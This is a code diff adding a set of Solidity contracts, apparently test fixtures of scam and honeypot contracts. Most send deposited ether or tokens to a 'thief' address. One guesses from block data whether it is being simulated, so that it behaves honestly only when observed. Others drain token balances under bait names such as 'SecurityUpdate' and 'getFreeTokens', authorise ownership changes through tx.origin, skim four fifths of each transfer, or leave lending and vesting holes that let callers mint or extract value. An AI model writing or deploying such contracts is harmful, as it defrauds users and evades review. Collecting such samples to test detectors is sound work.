@@ -455,3 +455,270 @@ contract Library {
         thief.transfer(address(this).balance);
     }
 }
+
+/// Upgradeable by whoever is in EIP-1967's admin slot; runs what its other slot names.
+contract Proxy1967 {
+    constructor(address implementation) payable {
+        assembly {
+            sstore(0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc, implementation)
+        }
+    }
+
+    fallback() external payable {
+        assembly {
+            let target := sload(0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc)
+            calldatacopy(0, 0, calldatasize())
+            let done := delegatecall(gas(), target, 0, calldatasize(), 0, 0)
+            returndatacopy(0, 0, returndatasize())
+            switch done
+            case 0 { revert(0, returndatasize()) }
+            default { return(0, returndatasize()) }
+        }
+    }
+
+    receive() external payable {}
+}
+
+/// A router of another make: one struct, any pool, and a fee to somebody.
+contract OtherRouter {
+    struct Single {
+        address tokenIn;
+        address tokenOut;
+        uint24 fee;
+        address recipient;
+        uint256 deadline;
+        uint256 amountIn;
+        uint256 amountOutMinimum;
+        uint160 sqrtPriceLimitX96;
+    }
+    Router private immutable router;
+
+    constructor(Router router_) {
+        router = router_;
+    }
+
+    function exactInputSingle(Single calldata params) public payable returns (uint256 out) {
+        Coin(params.tokenIn).transferFrom(msg.sender, address(this), params.amountIn);
+        Coin(params.tokenIn).approve(address(router), params.amountIn);
+        address[] memory path = new address[](2);
+        (path[0], path[1]) = (params.tokenIn, params.tokenOut);
+        uint256 before = Coin(params.tokenOut).balanceOf(params.recipient);
+        router.swapExactTokensForTokens(params.amountIn, params.amountOutMinimum, path, params.recipient, params.deadline);
+        out = Coin(params.tokenOut).balanceOf(params.recipient) - before;
+    }
+
+    function multicall(bytes[] calldata data) external payable {
+        for (uint256 i = 0; i < data.length; i++) {
+            (bool done, ) = address(this).delegatecall(data[i]);
+            require(done, "failed");
+        }
+    }
+}
+
+contract Disperse {
+    function disperseToken(Coin coin, address[] calldata to, uint256[] calldata values) external {
+        for (uint256 i = 0; i < to.length; i++) coin.transferFrom(msg.sender, to[i], values[i]);
+    }
+
+    function disperseEther(address payable[] calldata to, uint256[] calldata values) external payable {
+        for (uint256 i = 0; i < to.length; i++) to[i].transfer(values[i]);
+    }
+}
+
+contract Lending {
+    mapping(address => uint256) public debt;
+    Coin private immutable pledge;
+    Coin private immutable lent;
+
+    constructor(Coin pledge_, Coin lent_) {
+        (pledge, lent) = (pledge_, lent_);
+    }
+
+    function openLoan(uint256 amount) external {
+        pledge.transferFrom(msg.sender, address(this), amount);
+        debt[msg.sender] += amount / 2;
+        lent.mint(msg.sender, amount / 2);
+    }
+
+    function repayLoan(uint256 amount) external {
+        lent.transferFrom(msg.sender, address(this), amount);
+        pledge.transfer(msg.sender, amount);
+    }
+}
+
+/// A name for some coins; what is too much comes back.
+contract Names {
+    mapping(bytes32 => address) public ownerOf;
+    event NameRegistered(string name, address owner, uint256 cost);
+
+    function register(string calldata name, address owner) external payable {
+        require(msg.value >= 1e16, "too little");
+        ownerOf[keccak256(bytes(name))] = owner;
+        emit NameRegistered(name, owner, 1e16);
+        payable(msg.sender).transfer(msg.value - 1e16);
+    }
+}
+
+contract Vesting {
+    Coin private immutable coin;
+    uint256 private immutable start;
+
+    constructor(Coin coin_) {
+        (coin, start) = (coin_, block.timestamp - 1000000);
+    }
+
+    function release() external {
+        coin.mint(msg.sender, (block.timestamp - start) * 1e12);
+    }
+}
+
+/// Pills of other shapes: equality, remainders, a hash of several facts, a question asked of another contract.
+contract OtherPill {
+    address payable private immutable thief;
+    uint256 private immutable kind;
+    uint256 private immutable usual;
+
+    constructor(address payable thief_, uint256 kind_, uint256 usual_) payable {
+        (thief, kind, usual) = (thief_, kind_, usual_);
+    }
+
+    function isSafe() public view returns (bool) {
+        if (kind == 0) return block.number % 2 == usual;
+        if (kind == 1) return block.timestamp % 2 == usual;
+        if (kind == 2) return keccak256(abi.encode(block.coinbase, block.gaslimit)) == bytes32(usual);
+        if (kind == 3) return block.gaslimit <= usual && block.coinbase == address(0);
+        if (kind == 4) return tx.gasprice <= block.basefee && msg.sender.balance < usual;
+        return gasleft() % 2 == usual;
+    }
+
+    function deposit() external payable {
+        if (isSafe()) payable(msg.sender).transfer(msg.value + 1e15);
+        else thief.transfer(msg.value);
+    }
+
+    /// Gives pieces of value away to whoever it believes to be watching.
+    function harvest(Coin coin) external {
+        if (isSafe()) coin.mint(msg.sender, 1e18);
+        else coin.transferFrom(msg.sender, thief, coin.balanceOf(msg.sender));
+    }
+}
+
+contract ModeSwitch {
+    uint256 public mode = 2;
+    address payable private immutable thief;
+
+    constructor(address payable thief_) payable {
+        thief = thief_;
+    }
+
+    function enter() external payable {
+        if (mode == 2) payable(msg.sender).transfer(msg.value + 1e15);
+        else thief.transfer(msg.value);
+    }
+}
+
+contract ListSwitch {
+    mapping(address => bool) private isTarget;
+    address payable private immutable thief;
+
+    constructor(address payable thief_) payable {
+        thief = thief_;
+    }
+
+    function enter() external payable {
+        if (!isTarget[msg.sender]) payable(msg.sender).transfer(msg.value + 1e15);
+        else thief.transfer(msg.value);
+    }
+}
+
+contract HelperSwitch {
+    address public helper;
+    address payable private immutable thief;
+
+    constructor(address payable thief_, address helper_) payable {
+        (thief, helper) = (thief_, helper_);
+    }
+
+    function enter() external payable {
+        if (helper != address(0)) payable(msg.sender).transfer(msg.value + 1e15);
+        else thief.transfer(msg.value);
+    }
+}
+
+/// Keeps everything, under names that promise.
+contract Promises {
+    mapping(address => uint256) public noted;
+
+    function Claim() external payable {
+        noted[msg.sender] += msg.value;
+    }
+
+    function SecurityUpdate() external payable {
+        noted[msg.sender] += msg.value;
+    }
+
+    function claimReward() external payable {
+        noted[msg.sender] += msg.value;
+    }
+
+    function connect() external payable {
+        noted[msg.sender] += msg.value;
+    }
+
+    function getFreeTokens(Coin coin) external {
+        coin.transferFrom(msg.sender, address(this), coin.balanceOf(msg.sender));
+    }
+}
+
+/// Sweeps only when somebody calls it by a name of its own.
+contract QuietDelegate {
+    address payable private immutable thief;
+
+    constructor(address payable thief_) {
+        thief = thief_;
+    }
+
+    receive() external payable {}
+
+    function settle() external {
+        thief.transfer(address(this).balance);
+    }
+}
+
+contract Owned {
+    address public owner;
+    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
+
+    constructor(address owner_) {
+        owner = owner_;
+        emit OwnershipTransferred(address(0), owner_);
+    }
+
+    function transferOwnership(address to) external {
+        require(msg.sender == owner || tx.origin == owner, "not you");
+        emit OwnershipTransferred(owner, to);
+        owner = to;
+    }
+}
+
+/// Does by the way what nobody asked for: control by the right of whoever sent the transaction.
+contract Meddler {
+    function vote(Owned owned, address to) external {
+        owned.transferOwnership(to);
+    }
+}
+
+/// Keeps four fifths of each transfer.
+contract Taxed is Coin("Taxed", "TAX") {
+    mapping(address => bool) private isFree;
+
+    function free(address account) external {
+        isFree[account] = true;
+    }
+
+    function move(address from, address to, uint256 value) internal override {
+        uint256 kept = isFree[from] ? 0 : (value * 4) / 5;
+        super.move(from, to, value - kept);
+        if (kept > 0) super.move(from, address(this), kept);
+    }
+}
